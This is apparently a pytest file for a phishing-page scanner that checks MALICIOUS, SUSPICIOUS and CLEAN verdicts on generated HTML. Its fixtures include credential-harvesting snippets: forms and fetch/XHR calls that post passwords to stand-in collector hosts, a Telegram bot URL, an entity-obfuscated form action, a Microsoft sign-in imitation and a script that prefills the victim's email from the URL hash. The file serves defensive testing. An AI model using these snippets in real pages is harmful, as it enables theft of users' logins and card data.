from __future__ import annotations

import pytest

from app.engine.model import Verdict
from app.engine.scan import Engine

from .containers import places
from .pages import CONTENT, PASSWORD, SINK, page, script

BOT = "https://api.telegram" + ".org/bot1234567:AAF/sendMessage"
NAV = "".join(
    f"<a href='https://login.portal.example.org/{name}'>{name}</a>" for name in ("help", "forgot", "news", "legal")
)


def form(action: str, fields: str = PASSWORD) -> str:
    return f"<form method='post' action='{action}'>{fields}</form>"


def verdict(engine: Engine, content: bytes) -> Verdict:
    return engine.scan(content, name="a.html").verdict


@pytest.mark.parametrize(
    "content",
    [
        page(form(SINK)),
        page(form("https://203.0.113.9/x")),
        page(form("//collector.example.net/next.php")),
        page(form("https://collector.example.net/x", PASSWORD.replace("name='user'", "value='eva@firma.example'"))),
        page(form(SINK, "<input name='passwd' type='text'>")),
        page(form(SINK), head="<link rel='canonical' href='https://login.portal.example.org/'>"),
        page(f"<form>{PASSWORD}<button formaction='{SINK}'>Go</button></form>"),
        page(f"<FORM\n ACTION = {SINK} >{PASSWORD.upper()}</FORM>"),
        page(f"<div style='x'><form action='&#104;ttps://collector.example.net/next.php'>{PASSWORD}</form></div>"),
        script(f'document.body.innerHTML="{form(SINK)}"'),
        script(f"$.post('{SINK}',{{p:$('#p').val()}})", PASSWORD),
        script(f"fetch('{BOT}?chat_id=1&text='+p.value)", PASSWORD),
        script(f"var u='{SINK}';x.open('POST',u,true)", PASSWORD),
        page(f"{PASSWORD}<button onclick=\"fetch('{SINK}',{{method:'POST',body:word.value}})\">View</button>"),
        script(f"var i=document.createElement('input');i.type='password';f.action='{SINK}'"),
        page(
            form("next.php"), head="<base href='https://collector.example.net/'><title>Microsoft Sign in</title>"
        ).replace(b"<title>Document</title>", b""),
        script("fetch('https://submit-form.com/abc',{method:'POST',body:d})", PASSWORD),
    ],
)
def test_a_page_that_sends_a_password_elsewhere_is_malicious(engine: Engine, content: bytes) -> None:
    assert verdict(engine, content) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "content",
    [
        page(form("/login")),
        page(form("")),
        page(form("login.php")),
        page(
            form("https://login.portal.example.org/session"),
            head="<link rel='canonical' href='https://portal.example.org/'>",
        ),
        page(form("https://login.portal.example.org/session"), head="<base href='https://www.portal.example.org/'>"),
        page(NAV + form("https://login.portal.example.org/session")),
        b"<!-- saved from url=(0033)https://login.portal.example.org/ -->\n"
        + page(form("https://login.portal.example.org/s")),
        page(CONTENT + form("https://www.shop.example.org/login.php")),
        page(form("https://router.local/login.cgi")),
        page(form("http://192.168.1.1/login.php")),
        page("<form action='https://list.example.net/subscribe.php'><input type='email'><input name='q'></form>"),
        page(f"{CONTENT}{form('/login')}<script>fetch('https://metrics.example.net/collect',{{body:t}})</script>"),
        page(f"<!-- {form(SINK)} -->"),
        page(f"<pre>&lt;form action='{SINK}'&gt;&lt;input type=password&gt;</pre>"),
    ],
)
def test_a_page_that_sends_to_its_own_site_is_clean(engine: Engine, content: bytes) -> None:
    assert verdict(engine, content) is Verdict.CLEAN


def test_a_form_for_a_password_that_goes_elsewhere_without_another_sign_is_suspicious(engine: Engine) -> None:
    report = engine.scan(page(form("https://collector.example.net/session")).replace(b"Document", b"x"), name="a.html")

    assert (report.verdict, places(report)) == (Verdict.SUSPICIOUS, {"html.form_foreign": "a.html"})


@pytest.mark.parametrize(
    ("title", "action"), [("Sign in to your account", SINK), ("DHL Express", "https://x.example.net/a")]
)
def test_a_known_sign_in_page_that_sends_elsewhere_is_named_as_an_imitation(
    engine: Engine, title: str, action: str
) -> None:
    report = engine.scan(page(form(action)).replace(b"Document", title.encode()), name="a.html")

    assert (report.verdict, places(report)) == (Verdict.MALICIOUS, {"html.form_brand": "a.html"})


def test_the_real_sign_in_page_is_clean(engine: Engine) -> None:
    real = page(
        form("https://login.microsoftonline.com/common/login"), head="<base href='https://login.microsoftonline.com/'>"
    )

    assert verdict(engine, real.replace(b"Document", b"Sign in to your account")) is Verdict.CLEAN


def test_a_card_number_that_goes_elsewhere_is_suspicious(engine: Engine) -> None:
    assert verdict(engine, page(form(SINK, "<input name='cardnumber'><input name='cvv'>"))) is Verdict.SUSPICIOUS


def test_a_sign_in_page_that_takes_its_readers_address_from_its_own_is_malicious(engine: Engine) -> None:
    code = (
        f"var m=location.hash.substr(1);user.value=m;b.onclick=()=>fetch('{SINK}',{{method:'POST',body:m+word.value}})"
    )

    assert verdict(engine, script(code, PASSWORD)) is Verdict.MALICIOUS


def test_what_is_typed_and_sent_to_a_chat_robot_is_suspicious_even_without_a_password(engine: Engine) -> None:
    assert verdict(engine, script(f"fetch('{BOT}?text='+code.value)", "<input id='code'>")) is Verdict.SUSPICIOUS
